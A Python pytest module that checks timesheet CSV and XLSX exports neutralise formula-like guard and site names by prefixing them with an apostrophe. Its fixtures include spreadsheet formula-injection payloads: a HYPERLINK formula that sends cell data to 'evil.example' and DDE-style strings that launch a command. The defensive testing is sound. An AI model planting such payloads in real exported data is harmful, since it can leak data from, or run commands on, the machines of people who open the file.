"""No text in an export becomes a live formula in a spreadsheet program (CSV or XLSX).

A guard, a site and a shift named like formulas are exported through every
timesheet route; each such cell arrives as text behind an apostrophe, and the
workbook holds no formula cell.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from fastapi.testclient import TestClient

from central.checkins.store import record_event
from tests.fixtures.central import add_terminal, make_event
from tests.fixtures.tenants import Apps

NAMES = {
    "guard": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "guard_en": "+cmd|' /C calc'!A0",
    "site": "@SUM(1+1)*cmd|' /C calc'!A0",
}
EXPORTS = [
    ("pingan", "/api/exports/timesheet.csv?site_id=S2&date=2026-04-07"),
    ("pingan", "/api/exports/timesheet.xlsx?site_id=S2&date=2026-04-07"),
    ("pingan", "/api/exports/timesheet.csv?site_id=S2&date=2026-04-07&kind=monthly&group=guard"),
    ("pingan", "/api/exports/timesheet.xlsx?site_id=S2&date=2026-04-07&kind=monthly"),
    ("admin", "/api/admin/timesheets/daily?date=2026-04-07&format=csv"),
    ("admin", "/api/admin/timesheets/daily?date=2026-04-07&format=xlsx"),
    ("admin", "/api/admin/timesheets/monthly?month=2026-04&format=xlsx&group=guard"),
]


def _rename(admin: TestClient, kind: str, key: str, **names: str) -> None:
    row = admin.get(f"/api/admin/{kind}/{key}").json()
    assert admin.put(f"/api/admin/{kind}", json=row | names).status_code == 200


def _cells(content: bytes, url: str) -> list[object]:
    if ".xlsx" in url or "format=xlsx" in url:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in the workbook"
        return [c.value for c in cells]
    return [value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for value in row]


@pytest.mark.parametrize(("user", "url"), EXPORTS)
def test_formula_like_names_are_exported_as_text(apps: Apps, user: str, url: str) -> None:
    admin = apps.client("admin")
    _rename(admin, "guards", "G1", name_zh=NAMES["guard"], name_en=NAMES["guard_en"])
    _rename(admin, "sites", "S2", name_zh=NAMES["site"])
    at = datetime(2026, 4, 7, 9, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
    record_event(apps.engine, make_event(add_terminal(apps.engine, "S2"), occurred_at=at), data_dir=apps.data_dir,
                 default_jurisdiction="unassigned")  # fmt: skip

    response = apps.client(user).get(url)
    assert response.status_code == 200, response.text
    cells = [c for c in _cells(response.content, url) if isinstance(c, str)]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + NAMES["guard"] in cells
    if "group=guard" not in url:  # sums per guard across sites name no site
        assert "'" + NAMES["site"] in cells
